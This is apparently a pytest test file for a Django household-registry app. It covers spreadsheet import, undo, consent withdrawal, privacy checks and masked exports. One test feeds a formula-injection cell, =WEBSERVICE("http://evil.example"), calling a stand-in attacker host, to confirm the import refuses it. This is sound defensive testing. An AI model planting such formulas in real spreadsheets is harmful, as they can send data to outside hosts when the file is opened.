"""The officer's list: previewed, confirmed, undone; and lists that are not what they seem."""

from datetime import timedelta
from io import BytesIO

import pytest
from openpyxl import Workbook, load_workbook

from shanhuo.kernel import sheets
from shanhuo.kernel.models import AuditEntry
from shanhuo.people import queries, services
from shanhuo.people.entries import ConsentEntry, HouseholdEntry
from shanhuo.people.household_list import parse_date
from shanhuo.people.models import Household, HouseholdConsent, HouseholdImport, HouseholdImportRow
from shanhuo.people.services import household_files
from shanhuo.people.services.household_imports import (
    ColumnsMissing,
    ImportNotOpen,
    ListEmpty,
    TooLateToUndo,
)
from shanhuo.regions.models import Village

pytestmark = pytest.mark.django_db
HEADINGS = ["户编号", "户主姓名", "户类型", "监测类型", "乡镇", "行政村", "联系电话", "同意日期"]
ZHANG = ["SL-001", "张三", "脱贫户", "", "双龙镇", "安静村", "13800138000", "2026.3.5"]
LI = ["SL-002", "李四", "边缘易致贫户", "", "", "安静村", "", "2026年3月5日"]


@pytest.fixture
def wushan(make_county):
    return make_county()


@pytest.fixture
def preview(wang, wushan, noon):
    def preview(*rows, headings=HEADINGS, raw=None, now=noon):
        return services.preview_import(
            county_id=wushan.pk,
            raw=raw or sheets.write_workbook("名单", headings, rows),
            officer=wang,
            now=now,
        )

    return preview


@pytest.fixture
def bring(preview, wang, noon):
    """Preview and confirm."""

    def bring(*rows, now=noon, **more):
        batch = preview(*rows, now=now, **more)
        services.confirm_import(batch=batch, officer=wang, now=now)
        return batch

    return bring


def outcomes(batch):
    rows = HouseholdImportRow.objects.filter(batch=batch).order_by("line")
    return [(row.line, row.outcome, [reason[0] for reason in row.reasons]) for row in rows]


def test_a_preview_changes_nothing(preview):
    assert outcomes(preview(ZHANG, LI)) == [(2, "new", []), (3, "new", [])]
    assert (Household.objects.count(), Village.objects.count()) == (0, 0)


def test_a_confirmed_list_is_on_the_books_with_consents_and_villages(bring, wang):
    bring(ZHANG, LI)
    zhang, li = queries.households_visible_to(wang).order_by("pk")
    assert (zhang.head_name, zhang.kind, zhang.phone) == ("张三", "lifted", "13800138000")
    assert (li.kind, li.risk, str(li.village)) == ("monitored", "marginal", "安静村")
    assert li.village_id == zhang.village_id
    assert HouseholdConsent.objects.filter(given_on="2026-03-05").count() == 2
    assert Village.objects.get().township == "双龙镇"


def test_the_same_list_again_changes_nothing(bring, preview, noon):
    bring(ZHANG, LI)
    assert outcomes(preview(ZHANG, LI)) == [(2, "same", []), (3, "same", [])]


def test_a_later_list_changes_by_number_and_never_doubles(bring, preview, wang, noon):
    bring(ZHANG, LI)
    married = ["ＳＬ-００１", "张三丰", "脱贫户", "", "", "", "", "2026-03-05"]
    batch = preview(married)
    assert outcomes(batch) == [(2, "update", [])]
    services.confirm_import(batch=batch, officer=wang, now=noon)
    household = queries.search_households(Household.objects.all(), "SL-001").get()
    # An empty cell changes nothing.
    assert (household.head_name, household.phone) == ("张三丰", "13800138000")
    assert Household.objects.count() == 2
    assert HouseholdConsent.objects.count() == 2


@pytest.mark.parametrize(
    ("changes", "reasons"),
    [
        ({0: ""}, ["missing"]),
        ({1: ""}, ["missing"]),
        ({2: "贫困户"}, ["bad_kind"]),
        ({2: "监测户"}, ["risk_missing"]),
        ({3: "边缘易致贫户"}, ["risk_unwanted"]),
        ({2: "监测户", 3: "穷"}, ["bad_risk", "risk_missing"]),
        ({6: "没有"}, ["bad_phone"]),
        ({7: ""}, ["missing"]),
        ({7: "去年"}, ["bad_date"]),
        ({7: "2026-07-02"}, ["bad_consent_day"]),
        ({7: "2026-02-30"}, ["bad_date"]),
        ({1: "张" * 51}, ["too_long"]),
        ({1: "张三 500237199001011234"}, ["identity_number"]),
        ({0: "5.22E+17"}, ["digits_lost"]),
    ],
)
def test_a_row_that_cannot_be_taken_says_why(preview, changes, reasons):
    row = [changes.get(column, cell) for column, cell in enumerate(ZHANG)]
    assert outcomes(preview(LI, row)) == [(2, "new", []), (3, "refused", reasons)]


def test_a_number_twice_in_one_list_is_refused_the_second_time(preview):
    assert outcomes(preview(ZHANG, LI, ZHANG))[2] == (4, "refused", ["twice"])


def test_attack_24_a_formula_in_a_cell_is_refused(preview, wang, wushan):
    book = Workbook()
    book.active.append(HEADINGS)
    book.active.append([ZHANG[0], '=WEBSERVICE("http://evil.example")', *ZHANG[2:]])
    out = BytesIO()
    book.save(out)
    assert outcomes(preview(raw=out.getvalue())) == [(2, "refused", ["formula"])]


@pytest.mark.parametrize(
    ("heading", "cell", "outcome"),
    [
        ("身份证号", "500237201501011234", "refused"),
        ("身份证号", "500237196501011234", "new"),
        ("出生年份", "2009", "refused"),
        ("出生日期", "2008年7月2日", "refused"),
        ("出生日期", "2008-07-01", "new"),
    ],
)
def test_attack_39_a_minor_is_not_taken_and_no_identity_number_kept(
    preview, heading, cell, outcome
):
    batch = preview([*ZHANG, cell], headings=[*HEADINGS, heading])
    assert outcomes(batch)[0][1] == outcome
    assert batch.ignored_headings == [heading]
    row = HouseholdImportRow.objects.get()
    assert cell not in row.values + row.cells


def test_columns_that_are_not_ours_are_named_and_not_read(preview):
    batch = preview(
        [*ZHANG, "6222020200112233445", "高血压"], headings=[*HEADINGS, "银行卡号", "疾病"]
    )
    assert batch.ignored_headings == ["银行卡号", "疾病"]
    stored = HouseholdImportRow.objects.get()
    assert "6222" not in stored.values + stored.cells
    assert "高血压" not in stored.values + stored.cells


def test_missing_columns_are_named(preview):
    with pytest.raises(ColumnsMissing) as refusal:
        preview(ZHANG[:2], headings=HEADINGS[:2])
    assert refusal.value.details == {"columns": "户类型、同意日期"}
    assert HouseholdImport.objects.count() == 0


def test_a_list_without_rows_is_refused(preview):
    with pytest.raises(ListEmpty):
        preview()


def test_our_own_template_is_understood_and_its_example_left_out(preview):
    with pytest.raises(ListEmpty):
        preview(raw=household_files.template())
    book = load_workbook(BytesIO(household_files.template()))
    sheet = book["农户名单"]
    sheet.append(["SL-009", "王五", "其他", None, "", "", None, "", "2026-06-01", "当面口头"])
    out = BytesIO()
    book.save(out)
    assert outcomes(preview(raw=out.getvalue())) == [(3, "new", [])]


def test_the_template_helps_with_choices_and_keeps_numbers_as_text():
    sheet = load_workbook(BytesIO(household_files.template()))["农户名单"]
    assert [cell.value for cell in sheet[1]][:3] == ["户编号 *", "户主姓名 *", "户类型 *"]
    assert '"脱贫户,监测户,其他"' in [
        rule.formula1 for rule in sheet.data_validations.dataValidation
    ]
    assert sheet.column_dimensions["A"].number_format == "@"


def test_the_list_comes_back_with_its_errors(preview):
    batch = preview(ZHANG, ["SL-003", "", "脱贫户", "", "", "", "", ""])
    sheet = load_workbook(BytesIO(household_files.with_errors(batch))).active
    assert [cell.value for cell in sheet[1]] == ["错误", *HEADINGS]
    assert sheet["A2"].value in (None, "")
    assert sheet["A3"].value.count("；") == 1
    assert sheet["B3"].value == "SL-003"


def test_an_import_is_confirmed_once(bring, wang, noon):
    batch = bring(ZHANG)
    with pytest.raises(ImportNotOpen):
        services.confirm_import(batch=batch, officer=wang, now=noon)
    assert Household.objects.count() == 1


def test_undo_takes_back_exactly_what_the_import_did(bring, wang, noon):
    bring(ZHANG)
    later = noon + timedelta(hours=1)
    batch = bring([*ZHANG[:6], "13900139000", ZHANG[7]], LI, now=later)
    undone = services.undo_import(batch=batch, officer=wang, now=later + timedelta(hours=23))
    assert (undone.removed, undone.restored, undone.kept) == (1, 1, 0)
    household = Household.objects.get()
    assert (household.number, household.phone) == ("SL-001", "13800138000")


def test_undo_leaves_alone_what_was_changed_since(bring, wang, noon):
    batch = bring(ZHANG, LI)
    zhang = queries.search_households(Household.objects.all(), "SL-001").get()
    entry = HouseholdEntry(number="SL-001", head_name="张三", kind="other")
    later = noon + timedelta(hours=1)
    services.change_household(household=zhang, entry=entry, officer=wang, now=later)
    undone = services.undo_import(batch=batch, officer=wang, now=later)
    assert (undone.removed, undone.kept) == (1, 1)
    assert Household.objects.get() == zhang


def test_undo_is_possible_for_24_hours_and_once(bring, wang, noon):
    batch = bring(ZHANG)
    with pytest.raises(TooLateToUndo):
        services.undo_import(batch=batch, officer=wang, now=noon + timedelta(hours=24))
    services.undo_import(batch=batch, officer=wang, now=noon + timedelta(hours=23))
    with pytest.raises(TooLateToUndo):
        services.undo_import(batch=batch, officer=wang, now=noon + timedelta(hours=23))
    assert Household.objects.count() == 0


def test_attack_38_withdrawal_reaches_the_imported_lists(bring, preview, wang, noon):
    bring(ZHANG)
    pending = preview(ZHANG, LI)
    household = queries.search_households(Household.objects.all(), "SL-001").get()
    services.withdraw_consent(household=household, officer=wang, now=noon)
    rows = HouseholdImportRow.objects.filter(household=household)
    assert [(row.cells, row.values, row.before) for row in rows] == [("", "", "")] * 2
    services.confirm_import(batch=pending, officer=wang, now=noon)
    assert queries.households_visible_to(wang).count() == 1
    sheet = load_workbook(BytesIO(household_files.with_errors(pending))).active
    assert sheet.max_row == 2


def test_attack_38_lists_are_forgotten_when_nothing_can_be_done_with_them(
    bring, preview, wang, noon
):
    bring(ZHANG)
    preview(LI)
    assert services.forget_old_imports(now=noon + timedelta(hours=23)) == 0
    assert services.forget_old_imports(now=noon + timedelta(hours=24)) == 1
    assert services.forget_old_imports(now=noon + timedelta(days=7)) == 1
    assert set(HouseholdImportRow.objects.values_list("cells", "values", "before")) == {
        ("", "", "")
    }


def test_a_discarded_preview_is_gone_at_once(preview, wang, noon):
    batch = preview(ZHANG)
    services.discard_import(batch=batch, officer=wang, now=noon)
    assert HouseholdImportRow.objects.get().cells == ""
    with pytest.raises(ImportNotOpen):
        services.confirm_import(batch=batch, officer=wang, now=noon)


def test_attack_37_an_export_is_masked_and_noted(bring, wang, noon):
    bring(ZHANG)
    rows = queries.households_visible_to(wang)
    raw = household_files.export_households(households=rows, officer=wang, now=noon)
    sheet = load_workbook(BytesIO(raw)).active
    assert [cell.value for cell in sheet[2]][:2] == ["SL-001", "张**"]
    assert sheet["G2"].value == "138****8000"
    entry = AuditEntry.objects.get(verb="household.export")
    assert entry.detail == {"rows": 1, "masked": True, "reason": ""}


def test_attack_37_an_open_export_needs_a_reason_that_is_kept(bring, wang, noon):
    bring(ZHANG)
    rows = queries.households_visible_to(wang)
    raw = household_files.export_households(
        households=rows, officer=wang, now=noon, reason="送省厅核对"
    )
    assert load_workbook(BytesIO(raw)).active["B2"].value == "张三"
    entry = AuditEntry.objects.get(verb="household.export")
    assert entry.detail == {"rows": 1, "masked": False, "reason": "送省厅核对"}


def test_attack_28_a_name_like_a_formula_leaves_as_text(wang, wushan, noon, make_household):
    make_household(head_name="=1+1", number="@x")
    raw = household_files.export_households(
        households=queries.households_visible_to(wang), officer=wang, now=noon, reason="核对"
    )
    cells = load_workbook(BytesIO(raw)).active[2]
    assert [(cell.value, cell.data_type) for cell in cells][:2] == [("'@x", "s"), ("'=1+1", "s")]


@pytest.mark.parametrize(
    "text",
    ["2024.3.5", "2024/3/5", "2024-03-05", "2024年3月5日", "２０２４．３．５", "20240305", "45356"],
)
def test_days_are_read_as_offices_write_them(text):
    assert str(parse_date(text)) == "2024-03-05"


@pytest.mark.parametrize("text", ["", "3月5日", "2024", "2024-13-01", "明天", "99999999"])
def test_what_is_no_day_is_none(text):
    assert parse_date(text) is None


def test_five_thousand_rows_take_few_questions(preview, wang, noon, django_assert_max_num_queries):
    rows = [[f"SL-{n:04d}", *ZHANG[1:]] for n in range(600)]
    with django_assert_max_num_queries(60):
        batch = preview(*rows)
        services.confirm_import(batch=batch, officer=wang, now=noon)
    assert Household.objects.count() == 600


def test_a_previewed_row_meets_a_household_registered_in_the_meantime(preview, wang, wushan, noon):
    batch = preview(ZHANG)
    entry = HouseholdEntry(number="SL-001", head_name="张三", kind="other", address="3 组")
    services.register_household(
        county_id=wushan.pk,
        entry=entry,
        given=ConsentEntry(given_on=noon.date()),
        officer=wang,
        now=noon,
    )
    services.confirm_import(batch=batch, officer=wang, now=noon)
    household = Household.objects.get()
    assert (household.kind, household.address) == ("lifted", "3 组")
